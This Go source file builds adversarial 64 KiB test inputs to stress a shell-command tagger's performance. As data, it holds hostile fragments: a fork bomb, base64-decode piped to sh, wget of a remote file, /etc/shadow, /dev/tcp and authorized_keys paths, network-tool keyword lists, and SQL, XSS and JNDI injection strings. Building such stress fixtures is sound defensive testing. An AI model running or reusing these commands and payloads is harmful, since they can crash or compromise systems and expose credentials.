package corpus

import (
	"encoding/base64"
	"fmt"
	"strings"
)

// HostileSize is how long the texts of [Hostile] are, in bytes.
const HostileSize = 64 << 10

// Text is a text and what it is made of.
type Text struct{ Name, Text string }

// Hostile returns texts of 64 KiB that were made to cost a tagger time: to
// nest, to divide into many commands, to decode, and to look as if they matched.
func Hostile() []Text {
	all := strings.Join(Lines(), "; ")
	encoded := base64.StdEncoding.EncodeToString([]byte(all[:48<<10-64]))
	texts := []Text{
		{"letters", "a"},
		{"spaces", " "},
		{"backslashes", `\`},
		{"newlines", "\n"},
		{"quotes", `'`},
		{"quoted", `"a" 'b' `},
		{"unclosed", `echo "a ; `},
		{"substitutions", "$("},
		{"closed-substitutions", "$(a)"},
		{"backquotes", "`a`"},
		{"semicolons", ";"},
		{"commands", "a;"},
		{"programs", "id;ls;w;ps;wget;curl;"},
		{"pipes", "cat x|"},
		{"and", "x && "},
		{"ampersands", "a&"},
		{"redirections", ">a "},
		{"here-documents", "cat <<a\n"},
		{"assignments", "a=b "},
		{"variables", "${a}$b"},
		{"doubling", "a=$a$a;"},
		{"indirect", "a=sh;$a -c $a;"},
		{"wrappers", "sudo "},
		{"busybox", "/bin/busybox "},
		{"shells", "sh -c "},
		{"echo-pipes", "echo a|sh;"},
		{"escapes", `\x41`},
		{"printf", `printf '\x41\x42' | sh;`},
		{"braces", "{a,b}"},
		{"arithmetic", "$((1+"},
		{"loops", "for i in 1 2; do "},
		{"functions", "f() { f|f& };f;"},
		{"options", "-a "},
		{"wget-options", "wget -a "},
		{"near-paths", "/etc/passw /etc/shado /dev/tc /proc/cpuinf "},
		{"paths", "/etc/passwd /etc/shadow /dev/tcp/ .ssh/authorized_keys "},
		{"find", "find / -perm -u=z "},
		{"near-scripts", "python -x perl -x ruby -x php -x "},
		{"words", "wget curl tftp nc bash chmod crontab base64 useradd iptables "},
		{"base64-words", "Zm9vYmFy"},
		{"json", `{"a":["b",{"c":"d"}],"e":1},`},
		{"addresses", "10.0.0.1:22 "},
		{"urls", "http://a/b?c=d&e=f "},
		{"percent", "%2e%2e%2f%252e"},
		{"traversal", "/%2e%2e/..%2f../etc/passwd"},
		{"sql", "' union select 1,2 from a where b='c' -- "},
		{"tags", "<script>alert(1)</script>"},
		{"utf8", "ſKéß日本 "},
		{"folds", "\u212a\u017f"},
		{"invalid-utf8", "\xff\xc3"},
		{"jndi", "${jndi:${lower:l}"},
		{"near-misses", `xsh| catx ncx ipx cdx tarx wgetx curlx ddx xdig dockerx xrun xssh base64x evalx sourcex \\x0 0000 if= > `},
		{"near-pipes", "curl x|xsh base64 y|xpython tar z|xnc docker xrun "},
		{"one-literal", "docker "},
		{"two-literals", "base64 |"},
		{"short-commands", "w;"},
		{"two-assignments", "a=1;b=$a;"},
		{"mixed-quotes", `'a'"b"\c`},
		{"brace-expansions", "{a,b,c}{d,e} "},
		{"shell-commands", "sh -c 'a;b';"},
		{"crlf", "id\r\n"},
		{"nuls", "\x00"},
		{"nuls-between", "wg\x00et "},
		{"emoji", "\U0001f600"},
		{"real", all},
	}
	for i := range texts {
		texts[i].Text = repeat(texts[i].Text)
	}
	return append(texts,
		Text{"after-a-command", "wget http://192.0.2.1/x; " + repeat("a ")[:HostileSize-25]},
		Text{"base64-shell", "echo " + encoded + "|base64 -d|sh"},
		Text{"quoted-shell", "sh -c '" + repeat("ls;")[:HostileSize-8] + "'"},
		Text{"nested-substitutions", strings.Repeat("$(a ", HostileSize/5) + strings.Repeat(")", HostileSize/5)},
		Text{"many-arguments", "echo " + repeat("a ")[:HostileSize-5]},
		Text{"distinct-commands", distinct()},
	)
}

func repeat(s string) string {
	return strings.Repeat(s, HostileSize/len(s)+1)[:HostileSize]
}

func distinct() string {
	var b strings.Builder
	for i := 0; b.Len() < HostileSize; i++ {
		fmt.Fprintf(&b, "wget x%d;", i)
	}
	return b.String()[:HostileSize]
}
